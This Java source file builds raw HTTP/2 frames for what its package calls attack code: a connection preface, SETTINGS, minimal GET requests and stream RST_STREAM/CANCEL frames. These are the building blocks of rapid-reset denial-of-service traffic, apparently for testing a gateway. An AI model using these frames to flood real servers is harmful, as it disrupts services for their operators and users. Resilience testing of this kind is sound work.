package io.passgate.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** Frames of HTTP/2 (RFC 9113) as an attacker makes them. */
final class Http2 {
    static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final short INITIAL_WINDOW_SIZE = 4;
    private static final int CANCEL = 8;

    private Http2() {}

    /** How many bytes of a stream's answer may come unasked. */
    static byte[] settings(int window) {
        return frame(
                SETTINGS,
                0,
                0,
                ByteBuffer.allocate(6)
                        .putShort(INITIAL_WINDOW_SIZE)
                        .putInt(window)
                        .array());
    }

    /** A whole request; its fields are literals of the static table's names (RFC 7541, appendix A). */
    static byte[] get(int stream, String path) {
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        fields.write(0x82);
        fields.write(0x87);
        fields.writeBytes(literal(4, path));
        fields.writeBytes(literal(1, "gateway"));
        return frame(HEADERS, END_STREAM_AND_HEADERS, stream, fields.toByteArray());
    }

    static byte[] reset(int stream) {
        return frame(
                RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }

    private static byte[] literal(int name, String value) {
        return ByteBuffer.allocate(2 + value.length())
                .put((byte) name)
                .put((byte) value.length())
                .put(value.getBytes(StandardCharsets.US_ASCII))
                .array();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }
}
